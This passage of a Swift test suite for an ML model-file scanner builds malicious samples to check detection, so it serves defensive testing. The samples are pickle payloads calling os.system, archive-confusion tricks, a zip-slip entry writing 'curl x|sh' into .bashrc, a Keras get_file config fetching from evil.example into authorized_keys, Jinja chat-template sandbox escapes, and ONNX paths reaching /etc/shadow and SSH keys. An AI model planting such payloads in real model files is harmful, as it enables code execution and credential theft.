        out.append(Technique(name: "protocol 0 text pickle without STOP (broken)", source: "ReversingLabs nullifAI (broken stream)",
                             bytes: Array("csubprocess\ncall\n(S'id'\ntR\u{7}".utf8), path: "weights.dat"))
        // PROTO 0/1 header: pickle.loads accepts any protocol up to its highest.
        do {
            var p = PickleBuilder(protocol: 0)
            p.raw([PickleOpcode.proto.rawValue, 1])
            p.global("os", "system"); p.stringTuple(["id"]); p.op(.reduce)
            out.append(Technique(name: "PROTO 1 header", source: "pickle accepts PROTO with any version <= HIGHEST_PROTOCOL",
                                 bytes: p.finished(), path: "weights.dat"))
        }
        // Binary opcodes without a PROTO header.
        do {
            var p = PickleBuilder(protocol: 0)
            p.stackGlobal("os", "system"); p.stringTuple(["id"]); p.op(.reduce)
            out.append(Technique(name: "STACK_GLOBAL pickle without PROTO", source: "pickle does not require a PROTO opcode",
                                 bytes: p.finished(), path: "weights.dat"))
            var q = PickleBuilder(protocol: 0)
            q.stackGlobal("os", "system"); q.stringTuple(["id"]); q.op(.reduce); q.raw([0x0A])
            out.append(Technique(name: "binary pickle without PROTO and trailing newline", source: "pickle does not require PROTO; ignores bytes after STOP",
                                 bytes: q.bytes + [PickleOpcode.stop.rawValue, 0x0A], path: "weights.dat"))
        }
        // Second pickle in the same file.
        out.append(Technique(name: "benign pickle followed by a malicious one", source: "picklescan GHSA (multiple pickles)",
                             bytes: PickleBuilder.torchStateDict() + Shapes.evilPickle))
        return out
    }

    @Test(arguments: vm) func vmConfusion(_ t: Technique) { check(t) }

    // MARK: - Containers

    static var containers: [Technique] {
        var out: [Technique] = []
        let evil = Shapes.evilPickle
        out.append(Technique(name: "torch zip data.pkl payload", source: "huggingface.co/docs/hub/security-pickle",
                             bytes: ZipBuilder.torchCheckpoint(pickle: evil), path: "models/pytorch_model.bin", rule: "pickle-dangerous-call"))
        out.append(Technique(name: "torch zip under a renamed folder", source: "picklescan GHSA (archive folder name)",
                             bytes: ZipBuilder.torchCheckpoint(pickle: evil, folder: "innocent_name"), path: "models/x.pt"))
        out.append(Technique(name: "pickle member with a non-pickle extension", source: "CVE-2025-10155 (JFrog: extension bypass)",
                             bytes: ZipBuilder.torchCheckpoint(pickle: evil, pickleName: "weights.bin"), path: "models/x.pt"))
        out.append(Technique(name: "zip CRC mismatch", source: "CVE-2025-10156 (JFrog: CRC makes zipfile raise, torch ignores)",
                             bytes: Shapes.zip([ZipBuilder.Entry(name: "archive/data.pkl", data: evil, crcOverride: 0xDEAD_BEEF)]), path: "models/x.pt"))
        out.append(Technique(name: "zip encryption flag on a plain member", source: "picklescan GHSA (zip flag bits)",
                             bytes: Shapes.zip([ZipBuilder.Entry(name: "archive/data.pkl", data: evil, flags: 0x0001)]), path: "models/x.pt"))
        out.append(Technique(name: "zip local/central name mismatch", source: "picklescan GHSA (zip header confusion)",
                             bytes: Shapes.zip([ZipBuilder.Entry(name: "archive/readme.txt", data: evil, localName: "archive/data.pkl")]), path: "models/x.pt"))
        out.append(Technique(name: "zip duplicate member names", source: "zip duplicate-name confusion (scanner vs loader pick)",
                             bytes: Shapes.zip([ZipBuilder.Entry(name: "archive/data.pkl", data: PickleBuilder.torchStateDict()),
                                                ZipBuilder.Entry(name: "archive/data.pkl", data: evil)]), path: "models/x.pt"))
        out.append(Technique(name: "zip with prepended data", source: "zip polyglots (data before the archive)",
                             bytes: Shapes.zip([ZipBuilder.Entry(name: "archive/data.pkl", data: evil)], prefix: Array("GIF89a........".utf8)), path: "models/x.pt"))
        // The 7z reader unpacks LZMA/LZMA2 folders (7-Zip's defaults, with an encoded header): the payload itself is found.
        out.append(Technique(name: "7z-compressed torch checkpoint", source: "ReversingLabs nullifAI (7z instead of zip)",
                             bytes: SevenZipBuilder.archive([("archive/data.pkl", evil), ("archive/version", Array("3\n".utf8))],
                                                            coder: .lzma2, encodedHeader: true), path: "models/x.pt",
                             rule: "pickle-dangerous-call"))
        out.append(Technique(name: "7z with a coder Bulwark cannot unpack", source: "ReversingLabs nullifAI (7z instead of zip)",
                             bytes: SevenZipBuilder.archive([("archive/data.pkl", evil)], coder: .ppmd), path: "models/x.pt",
                             rule: "archive-unscannable-payload"))
        out.append(Technique(name: "zip in zip", source: "nested archives", bytes: Shapes.zip([ZipBuilder.Entry(name: "inner.zip", data: ZipBuilder.torchCheckpoint(pickle: evil))]),
                             path: "models/bundle.zip"))
        out.append(Technique(name: "gzip-wrapped pickle", source: "joblib compress / gzip wrappers", bytes: gzipStored(evil), path: "models/m.pkl.gz"))
        out.append(Technique(name: "zlib joblib", source: "joblib compress=zlib", bytes: zlibStored(evil), path: "models/m.joblib"))
        out.append(Technique(name: "npy object array pickle body", source: "numpy.load(allow_pickle=True)", bytes: Shapes.npyObject(evil), path: "data/x.npy"))
        out.append(Technique(name: "npz member with object array", source: "numpy.load(allow_pickle=True) on .npz",
                             bytes: Shapes.zip([ZipBuilder.Entry(name: "arr_0.npy", data: Shapes.npyObject(evil))]), path: "data/x.npz"))
        do {
            var header = "{'descr': [('a', '<f4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }"
            while (10 + header.utf8.count + 1) % 64 != 0 { header += " " }
            header += "\n"
            let npy = [0x93] + Array("NUMPY".utf8) + [1, 0] + Shapes.le(UInt64(header.utf8.count), 2) + Array(header.utf8) + evil
            out.append(Technique(name: "npy structured dtype with an object field", source: "numpy structured dtypes holding objects",
                                 bytes: npy, path: "data/x.npy"))
        }
        out.append(Technique(name: "GGUF alternate chat template key", source: "GGUF tokenizer.chat_template.<name> templates",
                             bytes: FormatBuilders.gguf(strings: [("general.architecture", "llama"),
                                                                  ("tokenizer.chat_template.tool_use", "{{ cycler.__init__.__globals__.os.popen('id') }}")]),
                             path: "models/m.gguf", rule: "gguf-chat-template-injection"))
        out.append(Technique(name: "legacy torch tar checkpoint", source: "torch legacy tar format",
                             bytes: Shapes.tar([("sys_info", PickleBuilder(protocol: 2).finished()), ("pickle", evil), ("storages", [])]), path: "models/old.pt"))
        do {
            var magic = PickleBuilder(protocol: 2)
            magic.long1([0x6C, 0xFC, 0x9C, 0x46, 0xF9, 0x20, 0x6A, 0xA8, 0x50, 0x19])
            var proto = PickleBuilder(protocol: 2); proto.int(1001)
            var sys = PickleBuilder(protocol: 2); sys.op(.emptyDict)
            out.append(Technique(name: "legacy torch sequence with payload in the model pickle", source: "torch legacy format (5 pickles)",
                                 bytes: magic.finished() + proto.finished() + sys.finished() + evil, path: "models/old.pth"))
        }
        out.append(Technique(name: "TorchScript constants.pkl payload", source: "torch.jit archives (code/ + constants.pkl)",
                             bytes: Shapes.zip([ZipBuilder.Entry(name: "m/data.pkl", data: PickleBuilder.torchStateDict()),
                                                ZipBuilder.Entry(name: "m/constants.pkl", data: evil)]), path: "models/m.pt"))
        out.append(Technique(name: "zip path traversal member", source: "zip-slip in model archives",
                             bytes: Shapes.zip([ZipBuilder.Entry(name: "../../.bashrc", data: Array("curl x|sh".utf8))]), path: "models/m.zip",
                             rule: "archive-path-traversal"))
        return out
    }

    @Test(arguments: containers) func container(_ t: Technique) { check(t) }

    // MARK: - Other formats

    static var formats: [Technique] {
        var out: [Technique] = []
        out.append(Technique(name: "Keras Lambda layer", source: "CVE-2024-3660", bytes: FormatBuilders.keras(config: FormatBuilders.kerasLambdaConfig),
                             path: "models/m.keras", rule: "keras-lambda-layer"))
        out.append(Technique(name: "Keras legacy h5 Lambda (safe_mode ignored)", source: "CVE-2025-9905 (h5 Lambda)",
                             bytes: FormatBuilders.h5(modelConfig: FormatBuilders.kerasLambdaConfig), path: "models/m.h5", rule: "keras-lambda-layer"))
        out.append(Technique(name: "Keras config with a foreign module", source: "CVE-2025-1550 (GHSA-48g7-3x6r-xfhp)",
                             bytes: FormatBuilders.keras(config: FormatBuilders.kerasForeignModuleConfig), path: "models/m.keras", rule: "keras-unsafe-module"))
        let getFile = #"{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.utils", "class_name": "get_file", "config": {"origin": "https://evil.example/x", "fname": "/root/.ssh/authorized_keys"}}]}}"#
        out.append(Technique(name: "Keras keras.utils.get_file in config", source: "CVE-2025-8747 (JFrog: safe_mode bypass via get_file)",
                             bytes: FormatBuilders.keras(config: getFile), path: "models/m.keras", rule: "keras-unsafe-module"))
        let unsafe = #"{"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}}"#
        out.append(Technique(name: "Keras enable_unsafe_deserialization in config", source: "CVE-2025-9906",
                             bytes: FormatBuilders.keras(config: unsafe), path: "models/m.keras", rule: "keras-unsafe-module"))
        let tfsm = #"{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": "/tmp/evil_savedmodel", "call_endpoint": "serve"}}]}}"#
        out.append(Technique(name: "Keras TFSMLayer loads an external SavedModel", source: "CVE-2026-1462",
                             bytes: FormatBuilders.keras(config: tfsm), path: "models/m.keras", rule: "keras-unsafe-module"))
        let torchWrapper = #"{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"module": "gAJjb3MKc3lzdGVtCg=="}}]}}"#
        out.append(Technique(name: "Keras TorchModuleWrapper (torch.load of config bytes)", source: "Keras TorchModuleWrapper.from_config uses torch.load",
                             bytes: FormatBuilders.keras(config: torchWrapper), path: "models/m.keras", rule: "keras-unsafe-module"))
        let keraSrc = #"{"module": "keras.src.saving.serialization_lib", "class_name": "deserialize_keras_object", "config": {}}"#
        out.append(Technique(name: "Keras keras.src internal function", source: "Keras safe_mode bypasses via keras.src modules",
                             bytes: FormatBuilders.keras(config: keraSrc), path: "models/m.keras", rule: "keras-unsafe-module"))
        func gguf(_ t: String) -> [UInt8] { FormatBuilders.gguf(strings: [("general.architecture", "llama"), ("tokenizer.chat_template", t)]) }
        out.append(Technique(name: "GGUF chat template __subclasses__ SSTI", source: "CVE-2024-34359 (llama-cpp-python)",
                             bytes: gguf("{{ ''.__class__.__mro__[1].__subclasses__() }}"), path: "models/m.gguf", rule: "gguf-chat-template-injection"))
        out.append(Technique(name: "GGUF chat template cycler globals os.popen", source: "CVE-2024-34359 PoC",
                             bytes: gguf("{% for x in () %}{% endfor %}{{ cycler.__init__.__globals__.os.popen('id').read() }}"), path: "models/m.gguf"))
        out.append(Technique(name: "GGUF template attr filter with escapes", source: "Jinja SSTI filter evasion (|attr + \\x5f)",
                             bytes: gguf(#"{{ ()|attr('\x5f\x5fclass\x5f\x5f') }}"#), path: "models/m.gguf"))
        out.append(Technique(name: "GGUF template name concatenation", source: "Jinja SSTI evasion ('__cla' ~ 'ss__')",
                             bytes: gguf("{% set n = '__cla' ~ 'ss__' %}{{ messages[n] }}"), path: "models/m.gguf", rule: "gguf-chat-template-injection"))
        out.append(Technique(name: "GGUF template str.format sandbox escape", source: "CVE-2019-10906 / CVE-2024-56326 (Jinja format)",
                             bytes: gguf("{{ '{0.__init__.__globals__}'.format(raise_exception) }}"), path: "models/m.gguf"))
        out.append(Technique(name: "GGUF template format via reversed name", source: "Jinja SSTI evasion (reversed strings)",
                             bytes: gguf("{% set f = 'tamrof'|reverse %}{{ ('{0' ~ '.x}')|attr(f) }}"), path: "models/m.gguf"))
        out.append(Technique(name: "tokenizer_config.json chat template SSTI", source: "HF chat templates (tokenizer_config.json)",
                             bytes: Array(#"{"chat_template": "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}"}"#.utf8),
                             path: "models/tokenizer_config.json", rule: "gguf-chat-template-injection"))
        out.append(Technique(name: "ONNX external data absolute path", source: "ONNX external data path traversal (CVE-2024-27318 family)",
                             bytes: FormatBuilders.onnx(externalLocation: "/etc/passwd"), path: "models/m.onnx", rule: "onnx-external-data-escape"))
        out.append(Technique(name: "ONNX external data ../ traversal", source: "CVE-2022-25882 / CVE-2024-27318 (onnx)",
                             bytes: FormatBuilders.onnx(externalLocation: "../../../../home/user/.ssh/id_rsa"), path: "models/m.onnx", rule: "onnx-external-data-escape"))
        out.append(Technique(name: "ONNX external data backslash traversal", source: "CVE-2024-27318 (Windows separators)",
                             bytes: FormatBuilders.onnx(externalLocation: "..\\..\\secrets.txt"), path: "models/m.onnx", rule: "onnx-external-data-escape"))
        out.append(Technique(name: "ONNX external data ./ then .. traversal", source: "CVE-2024-27318 (normalisation bypass)",
                             bytes: FormatBuilders.onnx(externalLocation: "./weights/../../../etc/shadow"), path: "models/m.onnx", rule: "onnx-external-data-escape"))
        out.append(Technique(name: "ONNX custom op domain", source: "onnxruntime custom-op libraries (native code)",
                             bytes: FormatBuilders.onnx(nodes: [("Evil", "com.evil")], opsets: ["", "com.evil"]), path: "models/m.onnx", rule: "onnx-custom-op-domain"))
        for op in ["PyFunc", "EagerPyFunc", "ReadFile", "WriteFile", "MatchingFiles"] {
            out.append(Technique(name: "SavedModel \(op)", source: "TensorFlow SavedModel dangerous ops (Protect AI / HiddenLayer research)",
                                 bytes: FormatBuilders.savedModel(ops: ["Placeholder", op]), path: "models/saved_model.pb", rule: "savedmodel-dangerous-op"))
        }
        return out
    }

    @Test(arguments: formats) func otherFormat(_ t: Technique) { check(t) }

    func check(_ t: Technique, sourceLocation: SourceLocation = #_sourceLocation) {
        let f = scanModel(t.bytes, path: t.path)
        let hits = serious(f)
        #expect(!hits.isEmpty, "\(t.name) [\(t.source)] found nothing at medium or above: \(f.map { "\($0.ruleID)/\($0.severity)" })",
                sourceLocation: sourceLocation)
        if let r = t.rule {
            #expect(hits.contains { $0.ruleID == r }, "\(t.name): expected \(r), got \(hits.map(\.ruleID))", sourceLocation: sourceLocation)
        }
    }
}
